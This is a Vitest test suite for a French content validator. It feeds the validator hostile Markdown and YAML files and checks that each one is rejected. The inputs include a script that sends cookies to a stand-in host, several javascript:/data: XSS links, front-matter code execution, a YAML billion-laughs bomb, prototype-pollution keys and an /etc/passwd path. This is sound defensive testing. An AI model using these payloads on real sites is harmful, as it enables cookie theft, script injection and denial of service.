/**
 * Hostile input: the real `essaim validate` on a temporary tree of malicious or broken files.
 * Every file gets a located error (file:line:col rule) and exit 1: no code runs, no crash, no
 * stack trace, no prototype pollution.
 */
import fs from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { collectionOfPath } from '../../src/content/collections.js';
import { parseEntry } from '../../src/content/parse.js';
import { validateRepository } from '../../src/content/validate.js';
import { line } from '../helpers/check.js';
import { fixture, makeTree, runCli, TODAY, type CliResult } from '../helpers/tree.js';

const NEWS = fixture('valide', 'content/news/lancement-portail.md');
const FUNDER = fixture('valide', 'content/funders/fondation-solidarite.yaml');
const [, HEAD] = /^(---\n[\s\S]*?\n---\n)([\s\S]*)$/.exec(NEWS)!;
/** A valid news entry whose id is the file name, with `body` as its text. */
const news = (id: string, body: string): string =>
  `${HEAD!.replace('id: lancement-portail', `id: ${id}`).replace(/ressources_liees:\n.*\n/, '')}\n${body}\n`;
const funder = (id: string, extra: string): string =>
  `${FUNDER.replace('id: fondation-solidarite', `id: ${id}`)}${extra}`;

/** Deterministic random bytes, with NULs and invalid UTF-8 sequences. */
function garbage(size: number, seed: number): Buffer {
  const out = Buffer.alloc(size);
  for (let i = 0; i < size; i++) {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    out[i] = seed >>> 24;
  }
  out[3] = 0;
  out[7] = 0xff;
  return out;
}

const jsCode = (marker: string): string =>
  `require('fs').writeFileSync(require('path').join(process.cwd(), '${marker}'), 'exécuté')`;

/** Each hostile file, by path, with what it tries. */
const HOSTILE: Record<string, string | Uint8Array> = {
  'content/news/front-matter-js.md': `---js\n${jsCode('MARQUEUR-js')}\nmodule.exports = { titre: 'x' }\n---\nTexte\n`,
  'content/news/front-matter-javascript.md': `---javascript\n${jsCode('MARQUEUR-javascript')}\n---\nTexte\n`,
  'content/news/front-matter-coffee.md': `---coffee\nrequire('child_process').execSync('touch MARQUEUR-coffee')\n---\nTexte\n`,
  'content/news/front-matter-toml.md': '+++\ntitre = "Actualité"\n+++\nTexte\n',
  'content/news/sans-en-tete.md': '# Une actualité\n\nSans en-tête.\n',
  'content/news/en-tete-ouvert.md': '---\nid: en-tete-ouvert\ntitre: Actualité\n\nLe texte sans fin d’en-tête.\n',
  'content/news/composant.mdx': news(
    'composant',
    'import Evil from "./evil";\n\n<Evil onLoad={() => fetch("https://x.example.org")} />',
  ),
  'content/news/script.md': news(
    'script',
    'Bonjour.\n\n<script>fetch("https://x.example.org/?c=" + document.cookie)</script>',
  ),
  'content/news/iframe.md': news('iframe', 'Voir : <iframe src="https://x.example.org"></iframe>'),
  'content/news/style.md': news('style', '<style>body { display: none }</style>'),
  'content/news/onerror.md': news('onerror', '<img src="x" onerror="alert(document.domain)">'),
  'content/news/lien-javascript.md': news('lien-javascript', '[Cliquez ici](javascript:alert(1))'),
  'content/news/lien-casse.md': news('lien-casse', '[Cliquez ici](JaVaScRiPt:alert(1))'),
  'content/news/lien-entites.md': news('lien-entites', '[Cliquez ici](&#106;avascript:alert(1))'),
  'content/news/lien-echappe.md': news('lien-echappe', '[Cliquez ici](javascript\\:alert(1))'),
  'content/news/lien-data.md': news(
    'lien-data',
    '[Ouvrir](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  ),
  'content/news/lien-vbscript.md': news('lien-vbscript', '[Ouvrir](vbscript:msgbox("x"))'),
  'content/news/image-passwd.md': news('image-passwd', '![mots de passe](../../../etc/passwd)'),
  'content/news/image-site.md': news('image-site', '![hors du site](@site/../x.png)'),
  'content/funders/milliard-de-rires.yaml': funder(
    'milliard-de-rires',
    [
      'note_interne: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
      ...'bcdefghi'
        .split('')
        .map(
          (k, i) =>
            `n${k}: &${k} [*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]},*${'abcdefghi'[i]}]`,
        ),
    ].join('\n') + '\n',
  ),
  'content/funders/imbrication.yaml': funder(
    'imbrication',
    `note_interne: ${'['.repeat(10_000)}${']'.repeat(10_000)}\n`,
  ),
  'content/funders/imbrication-blocs.yaml': funder(
    'imbrication-blocs',
    `note_interne:\n${Array.from({ length: 1_000 }, (_, i) => `${' '.repeat(i + 1)}- `).join('\n')}x\n`,
  ),
  'content/funders/etiquette-js.yaml': funder(
    'etiquette-js',
    `note_interne: !!js/function "function () { ${jsCode('MARQUEUR-tag')} }"\nnote: !<tag:yaml.org,2002:js/undefined> x\n`,
  ),
  'content/funders/proto.yaml': funder('proto', '__proto__:\n  pollue: true\n'),
  'content/news/proto-en-tete.md': NEWS.replace('id: lancement-portail', 'id: proto-en-tete').replace(
    'type: annonce',
    'type: annonce\nconstructor:\n  prototype:\n    pollue: true',
  ),
  'content/funders/cles-en-double.yaml': funder('cles-en-double', 'titre: Un autre titre\n'),
  'content/news/binaire.md': garbage(4096, 7),
  'content/funders/binaire.yaml': garbage(4096, 11),
  'content/news/enorme.md': news('enorme', 'Bla bla. '.repeat(600_000)),
  'content/news/vide.md': '',
  'content/funders/vide.yaml': '',
};

describe('hostile input', () => {
  let root: string;
  let text: CliResult;
  let json: CliResult;
  let problems: { file: string; line: number; col: number; rule: string; message: string }[];

  beforeAll(async () => {
    root = makeTree(undefined, HOSTILE);
    [text, json] = await Promise.all([
      runCli(['validate', '--today', TODAY], root),
      runCli(['validate', '--today', TODAY, '--format', 'json'], root),
    ]);
    problems = (JSON.parse(json.stdout) as { problemes: typeof problems }).problemes;
  }, 120_000);

  it('the 5 MB file really is over 5 MB, and the binary files really are invalid UTF-8 with NULs', () => {
    expect(fs.statSync(path.join(root, 'content/news/enorme.md')).size).toBeGreaterThan(5 * 1024 * 1024);
    const bytes = fs.readFileSync(path.join(root, 'content/news/binaire.md'));
    expect(bytes.includes(0)).toBe(true);
    expect(() => new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toThrow();
  });

  it('exits 1 with a report, no crash and no stack trace', () => {
    for (const r of [text, json]) {
      expect(r.code).toBe(1);
      expect(r.stderr).toBe('');
      expect(`${r.stdout}${r.stderr}`).not.toMatch(/\n\s+at .+:\d+:\d+|Erreur interne|RangeError|TypeError/);
    }
  });

  it('gives every hostile file at least one located error', () => {
    for (const file of Object.keys(HOSTILE)) {
      const own = problems.filter((p) => p.file === file);
      expect(own.length, file).toBeGreaterThan(0);
      for (const p of own) {
        expect(p.line, file).toBeGreaterThanOrEqual(1);
        expect(p.col, file).toBeGreaterThanOrEqual(1);
        expect(text.stdout).toContain(`${p.file}:${p.line}:${p.col}  ${p.rule}  ${p.message}`);
      }
    }
    expect(new Set(problems.map((p) => p.file))).toEqual(new Set(Object.keys(HOSTILE)));
  });

  it('locks what each file gets', () => {
    expect(problems.map((p) => `${p.file}:${p.line}:${p.col}  ${p.rule}  ${p.message}`)).toMatchInlineSnapshot(`
      [
        "content/funders/binaire.yaml:1:1  encodage  Le fichier n’est pas du texte UTF-8 valide.",
        "content/funders/cles-en-double.yaml:29:1  yaml  Ce champ apparaît deux fois.",
        "content/funders/etiquette-js.yaml:29:15  yaml  L’étiquette YAML « !!js/function » n’est pas acceptée : le contenu est fait de données, pas de code.",
        "content/funders/imbrication-blocs.yaml:54:26  yaml  La structure YAML est trop profondément imbriquée.",
        "content/funders/imbrication.yaml:29:39  yaml  La structure YAML est trop profondément imbriquée.",
        "content/funders/milliard-de-rires.yaml:29:15  yaml  Les ancres et alias YAML (\`&nom\`, \`*nom\`) ne sont pas acceptés.",
        "content/funders/proto.yaml:29:1  yaml  Le nom de champ « __proto__ » est interdit.",
        "content/funders/vide.yaml:1:1  yaml  Le fichier est vide.",
        "content/news/binaire.md:1:1  encodage  Le fichier n’est pas du texte UTF-8 valide.",
        "content/news/composant.mdx:1:1  mdx-interdit  Les fichiers .mdx ne sont pas acceptés : le contenu est du Markdown simple, sans code.",
        "content/news/en-tete-ouvert.md:1:1  front-matter  Le bloc d’en-tête n’est pas fermé.",
        "content/news/enorme.md:1:1  taille-fichier  Le fichier pèse 5,16 Mo ; la limite est de 1 Mo.",
        "content/news/front-matter-coffee.md:1:1  front-matter  Le bloc d’en-tête « coffee » n’est pas accepté : seul le YAML l’est, et aucun code n’est exécuté.",
        "content/news/front-matter-javascript.md:1:1  front-matter  Le bloc d’en-tête « javascript » n’est pas accepté : seul le YAML l’est, et aucun code n’est exécuté.",
        "content/news/front-matter-js.md:1:1  front-matter  Le bloc d’en-tête « js » n’est pas accepté : seul le YAML l’est, et aucun code n’est exécuté.",
        "content/news/front-matter-toml.md:1:1  front-matter  Le bloc d’en-tête TOML (\`+++\`) n’est pas accepté.",
        "content/news/iframe.md:16:8  html-interdit  La balise HTML <iframe> n’est pas autorisée.",
        "content/news/iframe.md:16:44  html-interdit  La balise HTML <iframe> n’est pas autorisée.",
        "content/news/image-passwd.md:16:1  image-hors-depot  L’image « ../../../etc/passwd » est refusée : un chemin relatif mène ailleurs selon la page qui affiche le texte (catalogue, édition, liste des actualités).",
        "content/news/image-site.md:16:1  image-hors-depot  L’image « @site/../x.png » est refusée : l’alias « @site/ » peut désigner n’importe quel fichier du dépôt.",
        "content/news/lien-casse.md:16:1  lien-dangereux  Les liens « javascript: » ne sont pas autorisés.",
        "content/news/lien-data.md:16:1  lien-dangereux  Les liens « data: » ne sont pas autorisés.",
        "content/news/lien-echappe.md:16:1  lien-dangereux  Les liens « javascript: » ne sont pas autorisés.",
        "content/news/lien-entites.md:16:1  lien-dangereux  Les liens « javascript: » ne sont pas autorisés.",
        "content/news/lien-javascript.md:16:1  lien-dangereux  Les liens « javascript: » ne sont pas autorisés.",
        "content/news/lien-vbscript.md:16:1  lien-dangereux  Les liens « vbscript: » ne sont pas autorisés.",
        "content/news/onerror.md:16:1  html-interdit  Les attributs HTML d’événement (onclick, onerror…) ne sont pas autorisés.",
        "content/news/onerror.md:16:1  image-hors-depot  L’image « x » est refusée : un chemin relatif mène ailleurs selon la page qui affiche le texte (catalogue, édition, liste des actualités).",
        "content/news/proto-en-tete.md:7:1  yaml  Le nom de champ « constructor » est interdit.",
        "content/news/proto-en-tete.md:8:3  yaml  Le nom de champ « prototype » est interdit.",
        "content/news/sans-en-tete.md:1:1  front-matter  Le bloc d’en-tête est manquant : le fichier doit commencer par une ligne \`---\`.",
        "content/news/script.md:18:1  html-interdit  La balise HTML <script> n’est pas autorisée.",
        "content/news/style.md:16:1  html-interdit  La balise HTML <style> n’est pas autorisée.",
        "content/news/vide.md:1:1  front-matter  Le fichier est vide.",
      ]
    `);
  });

  it('runs no code from front matter', () => {
    expect(fs.readdirSync(root).filter((f) => f.startsWith('MARQUEUR'))).toEqual([]);
    expect(fs.readdirSync(path.join(root, 'content/news')).filter((f) => f.startsWith('MARQUEUR'))).toEqual([]);
  });

  it('does not pollute Object.prototype when the core reads the same files in this process', () => {
    const result = validateRepository(root, undefined, { today: TODAY });
    expect(result.problems.map(line).length).toBe(problems.length);
    const entry = parseEntry(
      collectionOfPath('content/funders/proto.yaml')!,
      'content/funders/proto.yaml',
      fs.readFileSync(path.join(root, 'content/funders/proto.yaml')),
    );
    expect(entry.data).toBeUndefined();
    expect(({} as Record<string, unknown>).pollue).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('pollue');
  });

  it('accepts a valid file that starts with a byte order mark', async () => {
    const bom = makeTree('valide', {
      'content/news/lancement-portail.md': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(NEWS)]),
      'content/funders/fondation-solidarite.yaml': Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from(FUNDER),
      ]),
    });
    expect(await runCli(['validate', '--today', TODAY], bom)).toEqual({
      code: 0,
      stdout: '✔ 9 fichiers vérifiés, aucun problème.\n',
      stderr: '',
    });
  });

  it('gives each file, validated alone, its located error (same core as the binary)', () => {
    for (const file of Object.keys(HOSTILE)) {
      const alone = validateRepository(root, [file], { today: TODAY }).problems;
      expect(alone.length, file).toBeGreaterThan(0);
      expect(
        alone.every((p) => p.file === file && p.severity === 'error'),
        file,
      ).toBe(true);
      expect(alone.map(line)).toEqual(
        problems
          .filter((p) => p.file === file)
          .map(
            (p) => `${p.file}:${p.line}:${p.col}  ${p.rule}  ${p.message}${'hint' in p ? ` → ${String(p.hint)}` : ''}`,
          ),
      );
    }
  });
});
